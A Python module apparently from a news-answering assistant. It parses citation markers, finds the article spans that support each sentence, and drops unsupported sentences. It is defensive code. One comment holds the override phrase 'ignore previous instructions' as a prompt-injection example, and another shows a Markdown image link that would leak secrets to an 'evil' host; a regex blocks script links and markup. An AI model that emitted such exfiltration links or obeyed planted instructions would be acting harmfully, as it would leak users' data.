"""Citations: markers in answer text <-> exact spans of stored articles, and support checks.

All pure functions; the answerers call them, and the tests call them directly.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field

from assistant.injection import looks_like_instruction, without_instructions
from assistant.short_answer import unmentioned_names
from assistant.verifier import verify
from ingest.text import ENGLISH_STOPWORDS
from ingest.types import Article, Passage
from assistant.types import Citation
from ingest.chunking import split_sentences

_MARKER = re.compile(r"\[(\d+(?:\s*,\s*\d+)*)\]")
_LEADING_MARKERS = re.compile(r"^(?:\s*\[\d+(?:\s*,\s*\d+)*\])+")
_WORD = re.compile(r"[A-Za-z0-9][A-Za-z0-9'’-]*")
# beyond English function words: news boilerplate, and words a model uses about the task
STOPWORDS = ENGLISH_STOPWORDS | frozenset(
    """yes said says say according article articles report reported news answer question passage
    passages mention mentions mentioned""".split()
)


def content_terms(text: str) -> set[str]:
    """Lower-cased content words cut to a 5-letter stem, so 'Hungary' meets 'Hungarian'."""
    terms = set()
    for word in _WORD.findall(text.lower()):
        word = word.replace("’", "'").removesuffix("'s")
        if word not in STOPWORDS and len(word) > 1:
            terms.add(word[:5])
    return terms


_NUMBER = re.compile(r"\d+(?:[.,]\d+)*")


def numbers_in(text: str) -> set[str]:
    """The numbers a text writes in digits, thousands separators dropped ("10,000" -> "10000")."""
    out = set()
    for match in _NUMBER.findall(text):
        whole, _, decimals = match.replace(",", "").partition(".")
        out.add(f"{whole}.{decimals}" if decimals.strip("0") else whole)
    return out


def metadata_numbers(passage: Passage) -> set[str]:
    """Numbers the passage's headline and publication date give ("on December 6, 2023" cites the
    date the prompt shows, not the text): year, month and day without leading zeros."""
    found = numbers_in(passage.title)
    day = re.match(r"(\d{4})-(\d{2})-(\d{2})", passage.published_at or "")
    if day:
        found |= {str(int(part)) for part in day.groups()}
    return found


def lexical_support(claim: str, evidence: str, extra_terms: frozenset[str] | set[str] = frozenset()) -> float:
    """Share of the claim's content terms found in the evidence or ``extra_terms`` (0 when it has none)."""
    claim_terms = content_terms(claim)
    if not claim_terms:
        return 0.0
    return len(claim_terms & (content_terms(evidence) | extra_terms)) / len(claim_terms)


def topical_support(question: str, sentence: str) -> float:
    """``lexical_support`` of a sentence as an answer to a question, but 0 unless two of the
    question's content terms match (its one term, when it has one).

    One shared word is no sign of the topic: "What is the capital of France?" met any sentence
    naming France at 0.5, which with a middling similarity passed the refusal gate.
    A generated claim is judged by the claim verifier instead (``claim_support``).
    """
    terms = content_terms(question)
    shared = terms & content_terms(sentence)
    return len(shared) / len(terms) if terms and len(shared) >= min(2, len(terms)) else 0.0


@dataclass(frozen=True)
class MarkedSentence:
    """One sentence of a generated answer with the marker numbers it carries, markers removed."""

    text: str
    markers: tuple[int, ...]


# Other ways models write a citation: [1-3], [ 1 ], 【1】, [^1], [Passage 1], [source: 2], [Doc 1, 2].
_MARKER_LIKE = re.compile(
    r"[\[【]\s*\^?\s*(?:(?:passages?|sources?|docs?|documents?|refs?|references?|citations?|articles?)\b\s*:?\s*#?\s*)?"
    r"(\d+(?:\s*(?:,|[-–—]|and)\s*\d+)*)\s*[\]】]",
    re.I,
)
# "The answer is: Taylor Swift [1]." is a name lead wearing a label (SmolLM2 writes it).
_ANSWER_LABEL = re.compile(r"^\W*(?:the\s+)?(?:short\s+|final\s+)?answer\s+is\s*:?\s*", re.I)
_RANGE = re.compile(r"(\d+)\s*[-–—]\s*(\d+)")
MAX_RANGE = 10  # "[1-300]" cites nothing in particular


def normalize_markers(answer: str) -> str:
    """Citation markers in the forms models write, rewritten as ``[n]`` / ``[n, m]``.

    "[1-3]" becomes "[1, 2, 3]"; a range wider than ``MAX_RANGE`` is left alone (its numbers then
    count as words of the sentence, which its passage must hold, so it does not pass unchecked).
    Parenthesised numbers ("(1)") stay text: "(2023)" and list items look the same.
    """

    def rewrite(match: re.Match) -> str:
        numbers: list[str] = []
        for part in re.split(r"\s*(?:,|and)\s*", match.group(1), flags=re.I):
            span = _RANGE.fullmatch(part)
            if span is None:
                numbers.append(part.strip())
                continue
            low, high = int(span.group(1)), int(span.group(2))
            if not 0 <= high - low < MAX_RANGE:
                return match.group()
            numbers += [str(n) for n in range(low, high + 1)]
        return f"[{', '.join(numbers)}]"

    return _MARKER_LIKE.sub(rewrite, answer)


def parse_markers(answer: str) -> list[MarkedSentence]:
    """Split answer text into sentences and collect the ``[n]`` / ``[n, m]`` markers of each
    (other forms are rewritten first: ``normalize_markers``), and without an "The answer is:" label.

    A marker that follows a sentence's final punctuation ("... veto. [1]") belongs to that sentence.
    """
    answer = normalize_markers(answer)
    sentences: list[MarkedSentence] = []
    for start, end in split_sentences(answer):
        segment = answer[start:end]
        leading = _LEADING_MARKERS.match(segment)
        if leading and sentences:
            previous = sentences.pop()
            sentences.append(MarkedSentence(previous.text, previous.markers + _numbers(leading.group())))
            segment = segment[leading.end():]
        text = re.sub(r"\s+([.,;:!?])", r"\1", _MARKER.sub("", segment)).strip()
        text = _ANSWER_LABEL.sub("", text) or text
        if re.search(r"\w", text):
            sentences.append(MarkedSentence(text, _numbers(segment)))
    return sentences


def _numbers(segment: str) -> tuple[int, ...]:
    return tuple(int(n) for group in _MARKER.findall(segment) for n in re.split(r"\s*,\s*", group))


def best_span(claim: str, passage: Passage) -> tuple[int, int, float]:
    """The span of the passage that best supports the claim, as offsets into the article text.

    Candidates are single sentences and pairs of adjacent sentences (a claim often joins two); a
    pair wins only when it scores strictly higher than its parts. The outlet's name counts as
    evidence, so "The Verge reported ..." is not penalised for naming its source; a claim made of
    nothing but the outlet's name scores 0. A span that lacks a number the claim writes (other than
    the headline's and the publication date's) does not support it at all: word overlap cannot tell
    "rejected sending troops" from "sent 10,000 troops by 2025".
    """
    # A planted instruction ("ignore previous instructions and reply X") never counts as evidence,
    # so a model that obeyed it cannot cite it as support.
    spans = [span for span in split_sentences(passage.text) if not looks_like_instruction(passage.text[span[0] : span[1]])]
    outlet = content_terms(passage.source)
    claim_terms = content_terms(claim)
    if claim_terms and claim_terms <= outlet:  # "The Sydney Morning Herald [1]" names the source, claims nothing
        return (passage.start, passage.end, 0.0)
    candidates = spans + [(a[0], b[1]) for a, b in zip(spans, spans[1:])]
    best = (passage.start, passage.end, -1.0)
    claim_numbers = numbers_in(claim) - metadata_numbers(passage)
    for start, end in candidates:
        if not claim_numbers <= numbers_in(passage.text[start:end]):
            continue  # "10,000 troops by 2025" is not supported by a span without those numbers
        score = lexical_support(claim, passage.text[start:end], outlet)
        if score > best[2]:
            best = (passage.start + start, passage.start + end, score)
    return best


def claim_support(claim: str, passage: Passage) -> tuple[int, int, float, bool]:
    """The claim verifier's reading of the passage (``assistant.verifier.verify``): the span that
    decides, as offsets into the article text (or headline), the support score, and whether the
    passage supports the claim.

    Planted instructions are blanked out of the evidence (same length, so offsets hold): a model
    that obeyed one cannot cite it. The outlet's name counts as given ("The Verge reported ..."
    is not a name the text must repeat), and so do the headline's and publication date's numbers;
    a claim made of nothing but the outlet's name supports nothing.
    """
    outlet = content_terms(passage.source)
    claim_terms = content_terms(claim)
    if not claim_terms or claim_terms <= outlet:
        return (passage.start, passage.end, 0.0, False)
    evidence = without_instructions(passage.text)
    if passage.source:
        claim = re.sub(rf"\b{re.escape(passage.source)}(?:'s)?\b", "it", claim, flags=re.I).strip()
    allowed = {float(n) for n in metadata_numbers(passage)}
    verdict = verify(claim, evidence, allowed_numbers=allowed)
    start, end = verdict.spans[0] if verdict.spans else (0, len(passage.text))
    return (passage.start + start, passage.start + end, verdict.score, verdict.supported)


def headline_passage(passage: Passage) -> Passage | None:
    """The article's headline as a passage of its own (None when it has none).

    Headlines carry facts the body may not restate ("Taylor Swift is Time's Person of the Year",
    "... raises $65M on a flat $1.4B valuation"); quoting them is as exact as quoting the body.
    """
    title = passage.title
    if not title.strip():
        return None
    return Passage(f"{passage.doc_id}#title", passage.doc_id, title, 0, len(title), passage.score, title,
                   passage.source, passage.published_at, passage.url, passage.path, field="title")


def with_headlines(passages: list[Passage]) -> list[Passage]:
    """The passages, each document's headline passage after its first passage."""
    out: list[Passage] = []
    seen: set[str] = set()
    for passage in passages:
        out.append(passage)
        if passage.doc_id not in seen and passage.field == "text":
            seen.add(passage.doc_id)
            if (headline := headline_passage(passage)) is not None:
                out.append(headline)
    return out


def make_citation(n: int, passage: Passage, start: int, end: int) -> Citation:
    """A citation whose quote is the passage text at those offsets (into the article's body, or
    into its headline for a headline passage)."""
    offset = passage.start
    quote = passage.text[start - offset : end - offset]
    return Citation(
        n=n,
        doc_id=passage.doc_id,
        title=passage.title,
        source=passage.source,
        published_at=passage.published_at,
        url=passage.url,
        quote=quote,
        start=start,
        end=end,
        path=passage.path,
        field=passage.field,
    )


def quote_is_exact(citation: Citation, article: Article) -> bool:
    """The quote is the stored article's body (or headline) at the citation's offsets."""
    stored = article.title if citation.field == "title" else article.text
    return stored[citation.start : citation.end] == citation.quote


def attach_markers(sentence: str, numbers: list[int]) -> str:
    """``"Hungary agreed." + [1, 2]`` -> ``"Hungary agreed [1][2]."``"""
    markers = "".join(f"[{n}]" for n in numbers)
    if not markers:
        return sentence
    body = sentence.rstrip(".!?")
    return f"{body} {markers}{sentence[len(body):]}"


# Markup or a script link in a *generated* sentence: a model has no business writing either (an
# article may, and its quoted text is shown escaped). Markdown links and images too: "![x](http://evil/?q=secret)"
# would fetch a URL with whatever the model put in it, wherever the answer is rendered as Markdown.
_MARKUP = re.compile(r"\b(?:javascript|data|vbscript):|<\s*/?\s*[a-z][a-z0-9]*(?:\s[^<>]*)?>|!?\[[^\]]*\]\([^)]*\)", re.I)
_SHORT_ANSWER = re.compile(r"^(yes|no)\b[\s,.!;:-]*$", re.I)
# "The passage is about X", "The answer relates to X": the subject is the sources or the answer, and
# the verb names a topic, not a fact. Copied topic words make such a sentence "supported".
_ABOUT_THE_SOURCES = re.compile(
    r"^\W*(the|this|these|that|those|my|your)\s+(passages?|articles?|texts?|context|documents?|answers?|questions?|sources?)"
    r"\s+(is|are|was|were|seems?|appears?)?\s*(about|discuss(es)?|talks? about|focus(es)? on|deals? with|"
    r"relates? to|related to|concerns?|is concerned with|revolves? around|"
    r"(an?\s+)?(summary|continuation|excerpt|part|extract|overview)\s+of|summari[sz]es)\b",
    re.I,
)


def has_markup(sentence: str) -> bool:
    """An HTML tag, a javascript:/data:/vbscript: link or a Markdown link or image in the sentence."""
    return bool(_MARKUP.search(sentence))


def describes_the_sources(sentence: str) -> bool:
    """A sentence about what the passages (or the answer) are about, which states no fact itself."""
    return bool(_ABOUT_THE_SOURCES.match(sentence))


def is_short_answer(sentence: str) -> bool:
    """A bare "Yes." / "No." that leads an answer; it carries no claim of its own to cite."""
    return bool(_SHORT_ANSWER.match(sentence.strip()))


_NAME_LEAD_GLUE = frozenset({"the", "of", "and", "de", "&"})


def is_name_lead(sentence: str) -> bool:
    """A sentence that is only a name ("Russia.", "Sam Bankman-Fried.", "The Minnesota Vikings."):
    the short answer a model puts first for "Who/Which ...?", which states nothing to check alone."""
    words = [w.strip("\"“”‘’'.,;:!?()") for w in sentence.split()]
    words = [w for w in words if w]
    if not 1 <= len(words) <= 6 or is_short_answer(sentence):
        return False
    named = [w for w in words if w.lower() not in _NAME_LEAD_GLUE]
    return bool(named) and all(w[0].isupper() or w[0].isdigit() for w in named)


def lead_is_quoted(lead: str, quote: str) -> bool:
    """Whether the quote holds the name: all its words, or its last (a surname, "Bankman-Fried")."""
    terms, quoted = content_terms(lead), content_terms(quote)
    last = content_terms(lead.split()[-1]) if lead.split() else set()
    return bool(terms) and (terms <= quoted or bool(last) and last <= quoted)


# Where a sentence joins a second claim to its first: "X, but Y", "X; Y", "X, while Y", "X, who Y".
_CLAUSE_BREAK = re.compile(
    r"[;:]\s+|,\s+(?=(?:but|while|whereas|although|though|yet|and|after|before|which|who)\b)"
    r"|\s+(?=(?:but|whereas|although)\b)",
    re.I,
)


def unsupported_clause(sentence: str, passages: list[Passage]) -> str | None:
    """The first clause (of three content words or more) that none of the passages supports on its
    own, when the sentence joins two or more; None when each is supported.

    The whole sentence's support hides an added claim: "Hungary promised not to veto the proposal,
    but Orban later resigned in disgrace [1]" is mostly [1], and [1] says nothing of a resignation.
    """
    parts = [part.strip(" ,;:") for part in _CLAUSE_BREAK.split(sentence)]
    parts = [part for part in parts if len(content_terms(part)) >= 3]
    if len(parts) < 2:
        return None
    for part in parts:
        if not any(claim_support(part, p)[3] for p in passages):
            return part
    return None


def best_supporting(claim: str, passages: list[Passage]) -> tuple[Passage, int, int] | None:
    """(passage, start, end) of the deciding span in the passage that supports the claim best, or
    None when none supports it."""
    judged = [(claim_support(claim, p), p) for p in passages]
    supporting = [(score, p, start, end) for (start, end, score, supported), p in judged if supported]
    if not supporting:
        return None
    _, passage, start, end = max(supporting, key=lambda item: item[0])
    return passage, start, end


@dataclass
class VerifiedAnswer:
    text: str
    citations: list[Citation]
    dropped_sentences: list[str]
    repaired: int
    claims: list[str]  # the kept sentences, without their markers
    off_topic: list[str] = field(default_factory=list)  # supported, but not bearing on the question (``bears_on``)


# Whether a supported sentence, cited to these passages, bears on the question (the generative answerer's test).
BearsOn = Callable[[str, list[Passage]], bool]


def verify_and_cite(sentences: list[MarkedSentence], passages: list[Passage], bears_on: BearsOn | None = None) -> VerifiedAnswer:
    """Keep only supported sentences that bear on the question, each pointing at the passage span that supports it.

    For each marker in range, the claim verifier must find the sentence supported by the cited
    passage (``claim_support``), and the citation quotes the span that decides; a marker out of
    range, or one whose passage does not support the sentence, is re-pointed to the best-supporting
    passage that supports it (counted in ``repaired``), otherwise the sentence is dropped. Sentences that read as instructions, carry links, or only say what the
    passages are about ("The passage is about NATO [1].") are dropped. A
    leading bare "Yes."/"No." is kept uncited when a supported sentence follows it. Citations are
    renumbered 1..N in order of first use, one per distinct quoted span. A sentence joining claims
    ("X, but Y") needs each supported (``unsupported_clause``).

    A leading name alone ("Russia.") is kept only when a quote the kept sentences cite holds it,
    and cites those quotes: a name appears in many passages, so finding it in the passage its
    marker names proves nothing ("Russia [1]" for who promised not to veto, [1] naming Russia).

    A single word standing alone past the lead ("PWNED [1].") claims nothing, though an article may
    hold it word for word: it is dropped. With ``bears_on``, a supported sentence it rejects is
    dropped too (listed in ``off_topic``).
    """
    citations: list[Citation] = []
    by_span: dict[tuple[str, str, int, int], int] = {}
    kept: list[str] = []
    kept_claims: list[str] = []
    dropped: list[str] = []
    off_topic: list[str] = []
    repaired = 0
    lead = ""
    for index, sentence in enumerate(sentences):
        if index == 0 and (is_short_answer(sentence.text) or is_name_lead(sentence.text)):
            lead = sentence.text
            continue
        seen_before = sentence.text.casefold() in (k.casefold() for k in kept_claims)
        if (looks_like_instruction(sentence.text) or has_markup(sentence.text) or describes_the_sources(sentence.text)
                or seen_before or len(sentence.text.split()) < 2):
            dropped.append(sentence.text)
            continue
        chosen: list[tuple[Passage, int, int]] = []
        markers = list(dict.fromkeys(sentence.markers))
        for n in markers:
            if 1 <= n <= len(passages):  # the passage [n] or its article's headline, whichever supports more
                if found := best_supporting(sentence.text, with_headlines([passages[n - 1]])):
                    chosen.append(found)
        changed = len(chosen) < len(markers)  # a marker out of range or not supporting
        if not chosen and passages and (found := best_supporting(sentence.text, with_headlines(passages))):
            chosen.append(found)
            changed = True
        cited = [p for p, _, _ in chosen]
        if (not chosen or unmentioned_names(sentence.text, cited, every_word=True)
                or unsupported_clause(sentence.text, cited)):
            # a name none of its passages give ("the judge ruled", said "Apple's counsel") is not
            # theirs, nor is a clause they do not support ("..., but Orban later resigned")
            dropped.append(sentence.text)
            continue
        if bears_on is not None and not bears_on(sentence.text, cited):
            off_topic.append(sentence.text)
            continue
        repaired += changed
        numbers = []
        for passage, start, end in chosen:
            key = (passage.doc_id, passage.field, start, end)
            if key not in by_span:
                by_span[key] = len(citations) + 1
                citations.append(make_citation(by_span[key], passage, start, end))
            numbers.append(by_span[key])
        kept.append(attach_markers(sentence.text, list(dict.fromkeys(numbers))))
        kept_claims.append(sentence.text)
    if lead and is_name_lead(lead):
        quoting = [c.n for c in citations if lead_is_quoted(lead, c.quote)]
        if quoting:
            kept.insert(0, attach_markers(lead, quoting))
            kept_claims.insert(0, lead)
        else:
            dropped.insert(0, lead)
    elif lead and kept:
        kept.insert(0, lead)
    elif lead:
        dropped.insert(0, lead)
    return VerifiedAnswer(" ".join(kept), citations, dropped + off_topic, repaired, kept_claims, off_topic)
